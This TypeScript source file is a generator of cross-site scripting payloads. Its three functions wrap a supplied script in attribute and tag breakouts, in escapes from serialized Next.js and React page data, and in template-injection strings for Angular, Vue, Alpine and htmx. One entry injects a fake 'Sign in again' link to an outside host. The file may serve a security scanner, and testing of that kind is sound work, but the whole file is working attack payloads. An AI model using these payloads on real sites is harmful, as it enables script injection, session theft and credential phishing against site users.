/** Leaves the attribute, the element or the script that it was written into. */
export function breakouts(run: string, outside: string): string[] {
  return [
    `"><script>${run}</script>`,
    `'><script>${run}</script>`,
    `"><img src=x onerror=${run}>`,
    `" onmouseover="${run}`,
    `' onmouseover='${run}`,
    `" autofocus onfocus="${run}" x="`,
    `' autofocus onfocus='${run}' x='`,
    `" style="animation-name:spin" onanimationstart="${run}`,
    `x onpointerrawupdate=${run}`,
    `\` onmouseover=\`${run}`,
    `"/onfocus="${run}"/autofocus="`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `</option></select><script>${run}</script>`,
    `</td></tr></table><script>${run}</script>`,
    `</bdi></a></button><img src=x onerror=${run}>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `">\n<a href="${outside}">Sign in again</a>`,
    `\\"><script>${run}</script>`,
    `" accesskey="x" onclick="${run}" x="`,
  ]
}

/** Ends the script that carries a page's data, or the string within it. */
export function serialized(run: string): string[] {
  return [
    `</script><script>${run}</script>`,
    `</SCRIPT ><script>${run}</script>`,
    `</script/x><img src=x onerror=${run}>`,
    `<!--<script>`,
    `<!--<script>${run}//-->`,
    `"}]);${run};//`,
    `"]);${run};self.__next_f.push([1,"`,
    `\\"]);${run};//`,
    `'];${run};//`,
    `\u2028${run}\u2028`,
    `\u2029${run}//`,
    `\\u2028${run}`,
    `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${run}"}}`,
    `["$","script",null,{"children":"${run}"}]`,
    `$1`,
    `$L1`,
    `$@0`,
    `$undefined`,
    `$F1`,
    `$Sreact.fragment`,
    `$K1`,
    `$$`,
    `0:["$","img",null,{"src":"x","onError":"${run}"}]\n`,
    `1:I["x",[],"default"]\n`,
    `"},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"},"x":{"`,
    `*/${run}/*`,
  ]
}

/** Runs where something fills in templates. */
export function templates(run: string): string[] {
  return [
    `{{constructor.constructor('${run}')()}}`,
    `{{$on.constructor('${run}')()}}`,
    `{{_openBlock.constructor('${run}')()}}`,
    `\${${run}}`,
    `#{${run}}`,
    `<%= ${run} %>`,
    `{%raw%}<script>${run}</script>{%endraw%}`,
    `{{{<script>${run}</script>}}}`,
    `[[\${${run}}]]`,
    `{${run}}`,
    `<div ng-app ng-csp ng-focus="${run}" tabindex=1 autofocus>x</div>`,
    `<div v-html="'<img src=x onerror=${run}>'"></div>`,
    `<div x-data x-init="${run}"></div>`,
    `<div hx-on:load="${run}" hx-get="/"></div>`,
    `{"html":"<img src=x onerror=${run}>"}`,
  ]
}
